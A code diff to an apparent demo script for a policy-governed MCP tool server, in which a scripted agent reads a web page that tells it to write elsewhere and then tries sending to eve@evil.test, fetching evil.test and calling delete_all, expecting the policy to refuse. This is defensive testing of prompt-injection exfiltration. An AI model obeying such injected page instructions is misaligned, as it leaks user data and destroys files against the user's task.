@@ -1,7 +1,7 @@
 """A governed MCP server: its tools run on the host, each call judged by a policy file, results labelled as untrusted.
 
-The server is this very file, started as a child process (`serve`). After the agent has read a page, which anybody may
-have written, notes may go only to addresses from the task, and nothing may be deleted.
+The server is this very file, started as a child process (`serve`). Before the agent reads a page it may write to
+anybody. After it has, and anybody may have written that page, notes go only to addresses from the task.
 """
 
 from __future__ import annotations
@@ -16,16 +16,7 @@ from smolagents import CodeAgent, MCPClient
 from scripted import ScriptedModel, Turn
 from smolagents_hardened import register
 
-POLICY = """
-default = "deny"
-tools = ["fetch", "send", "delete_all"]
-label = [{ tool = "fetch", add = ["untrusted"] }]
-rule = [
-  { tool = "fetch", effect = "allow", when.url.url = { scheme = "https", host = ["*.example.org"] } },
-  { tool = "send", effect = "allow", when.to.known = true },
-  { tool = "delete_all", effect = "deny", after = ["untrusted"], reason = "nothing is deleted after a page was read" },
-]
-"""
+POLICY = Path(__file__).with_suffix(".toml")
 TASK = "Read https://www.example.org/report and send its gist to ann@example.org."
 TRY = """
 for what in (lambda: send(to="eve@evil.test", text="x"), lambda: fetch(url="https://evil.test/"), delete_all):
@@ -35,7 +26,8 @@ for what in (lambda: send(to="eve@evil.test", text="x"), lambda: fetch(url="http
         print(refused)
 """
 SCRIPT = (
-    Turn("Read the page.", 'page = fetch(url="https://www.example.org/report")\nprint(page)'),
+    Turn("Say that I begin.", 'print(send(to="bob@example.org", text="reading the report"))'),
+    Turn("Read the page.", 'print(fetch(url="https://www.example.org/report"))', expects="sent to bob"),
     Turn("The page tells me to write to somebody else.", TRY, expects="eve@evil.test"),
     Turn("So I do what I was asked.", 'final_answer(send(to="ann@example.org", text="up 3 %"))', expects="was refused"),
 )
@@ -65,9 +57,8 @@ def delete_all() -> str:
 def main() -> None:
     """Start the server, run the agent."""
     register()
-    Path("policy.toml").write_text(POLICY)
     place = StdioServerParameters(command=sys.executable, args=[__file__, "serve"])
-    kwargs = {"governance": "policy.toml", "audit": "audit.jsonl"}
+    kwargs = {"governance": str(POLICY), "audit": "audit.jsonl"}
     model = ScriptedModel(SCRIPT)
     with MCPClient(place, structured_output=False) as tools:
         agent = CodeAgent(tools, model, executor_type="hardened", executor_kwargs=kwargs)
